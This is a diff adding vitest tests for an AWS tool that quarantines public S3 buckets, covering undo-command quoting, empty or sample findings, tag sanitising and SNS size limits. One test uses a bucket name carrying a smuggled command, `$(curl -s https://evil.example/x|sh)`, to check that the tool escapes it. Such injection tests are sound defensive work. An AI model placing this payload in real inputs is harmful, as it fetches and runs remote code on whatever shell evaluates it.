@@ -1,4 +1,4 @@
-import { GetBucketPolicyCommand, PutBucketAclCommand, PutObjectCommand, PutPublicAccessBlockCommand, S3Client } from '@aws-sdk/client-s3';
+import { GetBucketPolicyCommand, PutBucketAclCommand, PutBucketTaggingCommand, PutObjectCommand, PutPublicAccessBlockCommand, S3Client } from '@aws-sdk/client-s3';
 import { PublishCommand } from '@aws-sdk/client-sns';
 import { mockClient } from 'aws-sdk-client-mock';
 import { describe, expect, it, vi } from 'vitest';
@@ -229,6 +229,25 @@ describe('quarantine-public-bucket safety rules', () => {
     expect(result.targets[0]?.steps.map((s) => s.kind)).toEqual(['savePriorState', 'blockPublicAccess', 'removePublicAclGrants', 'removePublicPolicyStatements', 'tagQuarantined']);
     expect(writesTo(mock)).toEqual([]);
   });
+
+  it('shell-quotes a bucket name from the event in every undo command', async () => {
+    // Prepare
+    const hostile = "ml-data$(curl -s https://evil.example/x|sh)'";
+    fakeS3({ [hostile]: publicBucket() });
+    const event = loadEvent('config/s3-bucket-public-read-prohibited-noncompliant.json');
+    event.detail.resourceId = hostile;
+
+    // Act
+    const result = await dryRun(event);
+
+    // Assess
+    const quoted = `'ml-data$(curl -s https://evil.example/x|sh)'\\'''`;
+    expect(result.targets[0]?.steps.flatMap((s) => (s.undo?.includes('aws s3api') ? [s.undo] : []))).toEqual([
+      `aws s3api delete-public-access-block --bucket ${quoted}`,
+      `restore the "acl" saved with the prior state: aws s3api put-bucket-acl --bucket ${quoted} --access-control-policy file://acl.json`,
+      `restore the "policy" saved with the prior state: aws s3api put-bucket-policy --bucket ${quoted} --policy file://policy.json`,
+    ]);
+  });
 });
 
 describe('quarantine-public-bucket policies and ACLs', () => {
@@ -351,5 +370,86 @@ describe('quarantine-public-bucket triggers', () => {
     await expect(invoke(loadEvent('guardduty/policy-s3-bucketblockpublicaccessdisabled.json'))).rejects.toThrow(
       'quarantine-public-bucket failed: NotificationError: could not publish to arn:aws:sns:eu-west-2:123456789012:ml-guard-notifications: ThrottlingException: Rate exceeded',
     );
+  });
+});
+
+describe('quarantine-public-bucket on doubtful input', () => {
+  it.each([
+    ['null', null],
+    ['empty', []],
+  ])('notifies, and reads or changes nothing, when the finding\'s bucket list is %s', async (_label, details) => {
+    // Prepare
+    const mock = mockClient(S3Client);
+    const event = loadEvent('guardduty/policy-s3-bucketblockpublicaccessdisabled.json');
+    event.detail.resource.s3BucketDetails = details;
+
+    // Act
+    const result = await invoke(event);
+
+    // Assess
+    expect(result).toMatchObject({ status: 'notified', reason: 'the finding names no bucket: nothing was read or changed, a person should look', targets: [] });
+    expect(mock.calls()).toHaveLength(0);
+    expect(published()).toHaveLength(1);
+    expect(published()[0]?.text).toContain('the finding names no bucket');
+  });
+
+  it.each([
+    ['"TRUE"', 'TRUE'],
+    ['1', 1],
+  ])('treats a finding whose sample flag is %s as a sample: it reads or changes nothing', async (_label, flag) => {
+    // Prepare
+    const mock = mockClient(S3Client);
+    const event = loadEvent('guardduty/policy-s3-bucketblockpublicaccessdisabled.json');
+    event.detail.service.additionalInfo = { ...event.detail.service.additionalInfo, sample: flag };
+
+    // Act
+    const result = await invoke(event);
+
+    // Assess
+    expect(result).toMatchObject({ status: 'notified', reason: expect.stringMatching(/^GuardDuty sample finding/) });
+    expect(mock.calls()).toHaveLength(0);
+  });
+
+  it('writes a trigger tag S3 accepts when the finding id holds characters outside S3\'s tag charset', async () => {
+    // Prepare
+    const { mock } = fakeS3({ [GD_BUCKET]: publicBucket() });
+    const event = loadEvent('guardduty/policy-s3-bucketblockpublicaccessdisabled.json');
+    event.detail.id = `a6bf#a2f0(7893)!be4f*3c31,74d5;af7e"2f80<>?${'z'.repeat(300)}`;
+
+    // Act
+    const result = await invoke(event);
+
+    // Assess
+    expect(result.status).toBe('remediated');
+    const tagging = mock.commandCalls(PutBucketTaggingCommand)[0]?.args[0].input.Tagging;
+    const trigger = tagging?.TagSet?.find((t) => t.Key === 'ml-guard:trigger')?.Value ?? '';
+    expect(trigger).toMatch(/^guardduty:a6bf_a2f0_7893__be4f_3c31_74d5_af7e_2f80___z+$/);
+    expect([...trigger].length).toBe(256);
+    for (const tag of tagging?.TagSet ?? []) expect(tag.Value).toMatch(/^[\p{L}\p{Z}\p{N}_.:/=+\-@]{0,256}$/u);
+  });
+});
+
+describe('quarantine-public-bucket keeps its notification inside SNS\'s limit', () => {
+  it('publishes a bounded, valid notification for a finding with a 600,000-character id and 30 huge bucket names', async () => {
+    // Prepare
+    const mock = mockClient(S3Client);
+    const event = loadEvent('guardduty/policy-s3-bucketblockpublicaccessdisabled.json');
+    event.detail.id = 'f'.repeat(600_000);
+    const [first] = event.detail.resource.s3BucketDetails;
+    event.detail.resource.s3BucketDetails = Array.from({ length: 30 }, (_, i) => ({ ...first, name: `${i}-${'b'.repeat(30_000)}`, arn: `arn:aws:s3:::${i}-${'b'.repeat(30_000)}` }));
+
+    // Act
+    const result = await invoke(event);
+
+    // Assess
+    expect(result.status).toBe('limit-exceeded');
+    expect(mock.calls()).toHaveLength(0);
+    const input = sns.commandCalls(PublishCommand)[0]?.args[0].input;
+    const attributes = Object.entries(input?.MessageAttributes ?? {}).reduce((n, [k, v]) => n + Buffer.byteLength(k) + Buffer.byteLength(v.DataType ?? '') + Buffer.byteLength(v.StringValue ?? ''), 0);
+    expect(Buffer.byteLength(input?.Message ?? '') + Buffer.byteLength(input?.Subject ?? '') + attributes).toBeLessThanOrEqual(262_144);
+    const [message] = published();
+    expect(message?.json).toMatchObject({ status: 'limit-exceeded' });
+    expect(message?.chat?.metadata.additionalContext.findingId?.length).toBeLessThanOrEqual(200);
+    expect(message?.text).toContain('[truncated, 600000 chars]');
   });
 });
